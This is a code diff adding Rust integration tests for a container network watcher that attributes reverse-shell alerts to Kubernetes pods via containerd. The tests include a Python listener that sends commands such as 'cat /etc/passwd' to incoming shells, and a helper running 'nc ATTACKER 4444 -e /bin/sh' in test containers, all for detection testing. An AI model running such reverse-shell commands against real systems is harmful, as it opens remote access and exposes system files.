@@ -249,3 +249,228 @@ fn a_second_way_out_is_a_finding_and_an_end_is_told() {
     assert!(gone().iter().all(|one| one["coverage"]["why"] == "it has ended"));
     host.end(watcher);
 }
+
+/// Listens, and drives whatever shell comes for half a minute.
+const DRIVE: &str = "import socket,sys,threading,time
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
+s.bind(('203.0.113.66',4444)); s.listen(); sys.stderr.write('listening\\n'); sys.stderr.flush()
+def drive(c):
+    try:
+        for n in range(60):
+            c.sendall([b'id\\n',b'cat /etc/passwd\\n',b'ls /\\n',b'uname -a\\n'][n%4]); time.sleep(.5)
+    except OSError: pass
+while True: threading.Thread(target=drive,args=s.accept()[:1],daemon=True).start()";
+
+/// A real containerd, a watcher of it (with these arguments more), and who drives shells.
+fn cluster(more: &[&str]) -> Option<(Host, Containerd, usize)> {
+    let mut host = Host::new();
+    let Some(containerd) = Containerd::start(&host.name) else {
+        eprintln!("skipped: containerd cannot be installed here");
+        return None;
+    };
+    let name = host.name.clone();
+    let driver = host.start(&name, "python3", &["-c", DRIVE]);
+    host.hears(driver, "listening");
+    let records = host.path("records.json");
+    let watcher = host.watch(&records, more);
+    Some((host, containerd, watcher))
+}
+
+fn pod<'a>(name: &'a str, uid: &'a str) -> Pod<'a> {
+    Pod { name, namespace: "shop", uid, labels: &[], host_network: false }
+}
+
+const UID: &str = "8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b11";
+const UID_2: &str = "8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b12";
+
+/// A shell, then so many seconds more.
+fn shell(seconds: u32) -> [String; 3] {
+    let run = format!("timeout {seconds} nc {ATTACKER} 4444 -e /bin/sh; sleep {seconds}");
+    ["sh".to_owned(), "-c".to_owned(), run]
+}
+
+fn run(
+    containerd: &Containerd,
+    sandbox: &str,
+    of: &Pod<'_>,
+    name: (&str, u32),
+    words: &[String],
+) -> String {
+    let words: Vec<&str> = words.iter().map(String::as_str).collect();
+    containerd.restart_container(sandbox, of, name, &words)
+}
+
+fn alerts_of(records: &Path, pod: &str) -> Vec<Value> {
+    alerts(records).into_iter().filter(|alert| alert["kubernetes"]["pod"] == pod).collect()
+}
+
+/// What each record says of whose it is: what was known once stays.
+fn assert_gains_only(alerts: &[Value]) {
+    let mut known: std::collections::BTreeMap<String, Value> = std::collections::BTreeMap::new();
+    for alert in alerts {
+        let uid = alert["vethwatch"]["alert_uid"].to_string();
+        if let Some(before) = known.get(&uid) {
+            assert!(
+                before["kubernetes"].is_null() || before["kubernetes"] == alert["kubernetes"],
+                "{before}\n{alert}"
+            );
+            if before["container"]["attribution"] == "runtime" {
+                assert_eq!(alert["container"]["attribution"], "runtime", "{alert}");
+            }
+            let list = |one: &Value| one["container"]["containers"].as_array().cloned();
+            let (before, now) = (list(before).unwrap_or_default(), list(alert).unwrap_or_default());
+            assert!(before.iter().all(|name| now.contains(name)), "{before:?} {now:?}");
+        }
+        known.insert(uid, alert.clone());
+    }
+}
+
+#[test]
+#[ignore = "needs root and network namespaces"]
+fn a_runtime_that_restarts_takes_no_name_away() {
+    let folder = tempfile::tempdir().unwrap();
+    let link = folder.path().join("cri.sock");
+    let arguments = ["--cri-socket", link.to_str().unwrap(), "--events", "alert,coverage"];
+    let Some((mut host, mut containerd, watcher)) = cluster(&arguments) else { return };
+    std::os::unix::fs::symlink(containerd.socket(), &link).unwrap();
+    let records = host.path("records.json");
+    let (lasting, ending) = (pod("web-0", UID), pod("job-0", UID_2));
+    let sandbox = containerd.run_pod(&lasting);
+    let app = run(&containerd, &sandbox, &lasting, ("app", 0), &shell(60));
+    let of_job = containerd.run_pod(&ending);
+    let job = run(&containerd, &of_job, &ending, ("job", 0), &shell(60));
+    let named = |pod: &str, id: &str| {
+        alerts_of(&records, pod).last().is_some_and(|one| one["container"]["id"] == id)
+    };
+    until(Duration::from_secs(12), || named("web-0", &app) && named("job-0", &job));
+    containerd.remove_container(&job);
+    let gone = || {
+        let all = of_kind(&records, "coverage");
+        all.iter().any(|one| one["coverage"]["state"] == "gone" && one["container"]["id"] == *job)
+    };
+    until(Duration::from_secs(12), gone);
+    // Others' tests have containers in the same procfs.
+    let own = [&sandbox, &of_job, &app, &job];
+    let covered = || {
+        let mut all = of_kind(&records, "coverage");
+        all.retain(|one| own.iter().any(|id| one["container"]["id"] == id.as_str()));
+        all
+    };
+    let settled = covered().len();
+
+    containerd.stop();
+    // An interface that comes makes it look at once.
+    host.container(1);
+    host.hears(watcher, "the runtime's socket is gone");
+    thread::sleep(Duration::from_secs(2));
+    assert!(named("web-0", &app) && named("job-0", &job));
+    containerd.start_again();
+    host.hears(watcher, "the runtime answers");
+    thread::sleep(Duration::from_secs(1));
+    assert_eq!(covered().split_off(settled), Vec::<Value>::new());
+    containerd.remove_pod(&sandbox);
+    containerd.remove_pod(&of_job);
+    let closed = |pod| {
+        alerts_of(&records, pod).last().is_some_and(|one| one["vethwatch"]["state"] == "close")
+    };
+    until(Duration::from_secs(12), || closed("web-0") && closed("job-0"));
+    host.end(watcher);
+
+    let alerts = alerts(&records);
+    assert_gains_only(&alerts);
+    for (pod, id) in [("web-0", &app), ("job-0", &job)] {
+        let all = alerts_of(&records, pod);
+        assert!(all.iter().all(|one| one["container"]["id"] == **id), "{all:?}");
+    }
+    assert!(alerts.iter().all(|one| one["kubernetes"]["pod"].is_string()), "{alerts:?}");
+}
+
+#[test]
+#[ignore = "needs root and network namespaces"]
+fn a_container_started_anew_is_not_told_as_the_one_before() {
+    let folder = tempfile::tempdir().unwrap();
+    let link = folder.path().join("cri.sock");
+    let Some((mut host, mut containerd, watcher)) =
+        cluster(&["--cri-socket", link.to_str().unwrap()])
+    else {
+        return;
+    };
+    std::os::unix::fs::symlink(containerd.socket(), &link).unwrap();
+    let records = host.path("records.json");
+    let crashing = pod("crash-0", UID);
+    let sandbox = containerd.run_pod(&crashing);
+    let sleep = ["sh", "-c", "sleep 2"].map(str::to_owned);
+    let first = run(&containerd, &sandbox, &crashing, ("app", 0), &sleep);
+    let state = |id: &str, state: &str| {
+        let all = of_kind(&records, "coverage");
+        all.iter().any(|one| one["coverage"]["state"] == state && one["container"]["id"] == id)
+    };
+    until(Duration::from_secs(8), || state(&first, "seen"));
+    until(Duration::from_secs(12), || state(&first, "gone"));
+    let second = run(&containerd, &sandbox, &crashing, ("app", 1), &shell(60));
+    until(Duration::from_secs(12), || !alerts(&records).is_empty());
+    host.end(watcher);
+    for alert in alerts(&records) {
+        assert_eq!(alert["kubernetes"]["pod"], "crash-0", "{alert}");
+        assert_ne!(alert["container"]["id"], first.as_str(), "{alert}");
+    }
+    let last = alerts(&records).pop().unwrap();
+    assert_eq!(last["container"]["id"], second.as_str(), "{last}");
+}
+
+#[test]
+#[ignore = "needs root and network namespaces"]
+fn of_a_pods_containers_none_is_accused_and_none_excused_for_another() {
+    let folder = tempfile::tempdir().unwrap();
+    let (link, config) = (folder.path().join("cri.sock"), folder.path().join("config.toml"));
+    let allow = "[[allow]]\nreason = 'test'\nowner = 'me'\ncontainer = 'a'\n";
+    std::fs::write(&config, allow).unwrap();
+    let arguments =
+        [["--cri-socket", link.to_str().unwrap()], ["--config", config.to_str().unwrap()]];
+    let Some((mut host, mut containerd, watcher)) = cluster(&arguments.concat()) else { return };
+    std::os::unix::fs::symlink(containerd.socket(), &link).unwrap();
+    let records = host.path("records.json");
+    let (several, single) = (pod("tri", UID), pod("one", UID_2));
+    let sandbox = containerd.run_pod(&several);
+    let sleep = ["sh", "-c", "sleep 60"].map(str::to_owned);
+    for name in ["a", "b"] {
+        run(&containerd, &sandbox, &several, (name, 0), &sleep);
+    }
+    thread::sleep(Duration::from_secs(2));
+    run(&containerd, &sandbox, &several, ("evil", 0), &shell(60));
+    // Its finding comes before anyone can have told its name.
+    let other = containerd.run_pod(&single);
+    run(&containerd, &other, &single, ("a", 0), &shell(60));
+    let list = |alert: &Value| alert["container"]["containers"].clone();
+    let complete = || {
+        let all = alerts_of(&records, "tri");
+        all.last().is_some_and(|one| list(one).as_array().is_some_and(|list| list.len() == 3))
+    };
+    until(Duration::from_secs(15), complete);
+    thread::sleep(Duration::from_secs(2));
+    host.end(watcher);
+    let all = alerts(&records);
+    assert_gains_only(&all);
+    for alert in &all {
+        assert_eq!(alert["kubernetes"]["pod"], "tri", "what is allowed is silent: {alert}");
+        assert_eq!(alert["container"]["id"], sandbox.as_str(), "{alert}");
+        assert!(alert["container"].get("name").is_none(), "{alert}");
+    }
+}
+
+#[test]
+#[ignore = "needs root and network namespaces"]
+fn without_a_runtimes_socket_a_finding_bears_the_pods_uid() {
+    let Some((mut host, mut containerd, watcher)) = cluster(&[]) else { return };
+    let records = host.path("records.json");
+    let web = pod("web-0", UID);
+    let sandbox = containerd.run_pod(&web);
+    run(&containerd, &sandbox, &web, ("app", 0), &shell(60));
+    until(Duration::from_secs(12), || !alerts(&records).is_empty());
+    thread::sleep(Duration::from_secs(1));
+    host.end(watcher);
+    let last = alerts(&records).pop().unwrap();
+    assert_eq!(last["kubernetes"], serde_json::json!({ "pod_uid": UID }), "{last}");
+    let covered = of_kind(&records, "coverage");
+    assert!(covered.iter().any(|one| one["kubernetes"]["pod_uid"] == UID), "{covered:?}");
+}
